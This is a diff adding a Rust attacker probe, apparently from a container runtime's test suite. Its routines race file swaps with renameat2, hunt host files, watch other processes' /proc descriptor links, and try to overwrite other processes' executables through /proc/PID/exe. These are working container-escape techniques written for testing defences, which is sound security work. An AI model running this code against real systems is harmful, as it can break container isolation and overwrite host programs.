@@ -1,0 +1,133 @@
+//! What an attacker runs: beside a container that is being made, or in one.
+
+use std::collections::HashSet;
+use std::fs::{self, File};
+use std::io::Write;
+use std::os::fd::{AsRawFd, OwnedFd};
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use nix::fcntl::{AT_FDCWD, OFlag, RenameFlags, open, renameat2};
+use nix::sys::stat::Mode;
+use nix::sys::statfs::statfs;
+
+/// `swap A B [C D]…`: exchanges the two of each pair for ever, at a pace that differs each time, so that whatever lies
+/// between two system calls of somebody else is hit. Ends when they are gone.
+pub fn swap(pairs: &[&str]) {
+    let mut noise = std::process::id() | 1;
+    loop {
+        for pair in pairs.chunks(2) {
+            let [one, other] = pair else { panic!("probe: swap wants pairs") };
+            if renameat2(AT_FDCWD, *one, AT_FDCWD, *other, RenameFlags::RENAME_EXCHANGE).is_err() {
+                return;
+            }
+            noise ^= noise << 13;
+            noise ^= noise >> 17;
+            noise ^= noise << 5;
+            // A third of the time at once, else after up to some hundred microseconds.
+            let pause = if noise.is_multiple_of(3) { 0 } else { noise % 50_000 };
+            (0..pause).for_each(|_| std::hint::spin_loop());
+        }
+    }
+}
+
+/// Entries looked at; more than any container of a test has, fewer than a host's root would take long for.
+const MOST: usize = 20_000;
+
+/// `hunt NAME`: every file or directory of this name that can be reached, as `found PATH`; then the mount table.
+pub fn hunt(name: &str) {
+    let mut left = MOST;
+    let mut open = vec![PathBuf::from("/")];
+    while let Some(dir) = open.pop() {
+        if is_made_by_the_kernel(&dir) {
+            continue;
+        }
+        for entry in fs::read_dir(&dir).into_iter().flatten().flatten() {
+            left = left.saturating_sub(1);
+            if entry.file_name().to_str() == Some(name) {
+                println!("found {}", entry.path().display());
+            }
+            if left > 0 && entry.file_type().is_ok_and(|kind| kind.is_dir()) {
+                open.push(entry.path());
+            }
+        }
+    }
+    print!(
+        "{}",
+        fs::read_to_string("/proc/self/mountinfo").unwrap_or_else(|error| format!("no mount table: {error}\n"))
+    );
+}
+
+/// procfs, sysfs, cgroup2, devpts, mqueue: nothing of the host's files is there, and trees without an end are.
+fn is_made_by_the_kernel(dir: &Path) -> bool {
+    const TYPES: [u32; 5] = [0x9fa0, 0x6265_6572, 0x6367_7270, 0x1cd1, 0x1980_0202];
+    statfs(dir).is_ok_and(|found| TYPES.iter().any(|kind| i128::from(*kind) == i128::from(found.filesystem_type().0)))
+}
+
+/// `spy SECONDS`: whatever the descriptors, the directories and the program of another process lead to, as
+/// `PID fd/3 TARGET`, once each. Says `ready` first.
+pub fn spy(seconds: u64) {
+    println!("ready");
+    let end = Instant::now() + Duration::from_secs(seconds);
+    let own = std::process::id();
+    let mut seen = HashSet::new();
+    // Pids in a new namespace are given in order: those after ours come next.
+    let mut next = own + 1;
+    while Instant::now() < end {
+        let first = next;
+        for pid in first..first + 12 {
+            // What may be seen at all can be seen here.
+            let Ok(root) = fs::read_link(format!("/proc/{pid}/root")) else { continue };
+            next = pid;
+            if seen.insert(("root", root.clone())) {
+                println!("{pid} root {}", root.display());
+            }
+            for what in ["cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "fd/9", "fd/10", "fd/11", "fd/12"] {
+                let link = format!("/proc/{pid}/{what}");
+                let Ok(target) = fs::read_link(&link) else { continue };
+                if seen.insert((what, target.clone())) {
+                    println!("{pid} {what} {}", target.display());
+                }
+            }
+        }
+    }
+}
+
+/// `overwrite SECONDS MARK`: takes hold of the program of every other process (`/proc/PID/exe`) and tries to open it for
+/// writing until that succeeds, and then writes MARK over its beginning. Says `ready` first, and each kind of refusal once.
+pub fn overwrite(seconds: u64, mark: &str) {
+    println!("ready");
+    let end = Instant::now() + Duration::from_secs(seconds);
+    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
+    let mut held: Vec<OwnedFd> = Vec::new();
+    let mut seen = HashSet::new();
+    while Instant::now() < end {
+        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
+            let exe = entry.path().join("exe");
+            let Ok(target) = fs::read_link(&exe) else { continue };
+            // Not ourselves and not the shells around us.
+            if target == own || target.ends_with("busybox") || held.len() > 200 {
+                continue;
+            }
+            if let Ok(fd) = open(&exe, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) {
+                if seen.insert(target.display().to_string()) {
+                    println!("holds {}", target.display());
+                }
+                held.push(fd);
+            }
+        }
+        for fd in &held {
+            let again = format!("/proc/self/fd/{}", fd.as_raw_fd());
+            match open(again.as_str(), OFlag::O_WRONLY | OFlag::O_CLOEXEC, Mode::empty()) {
+                Ok(file) => {
+                    let written = File::from(file).write_all(mark.as_bytes());
+                    println!("OVERWRITTEN {written:?}");
+                    return;
+                }
+                Err(errno) if seen.insert(format!("{errno:?}")) => println!("refused {errno:?}"),
+                Err(_) => {}
+            }
+        }
+    }
+    println!("gave up with {} held", held.len());
+}
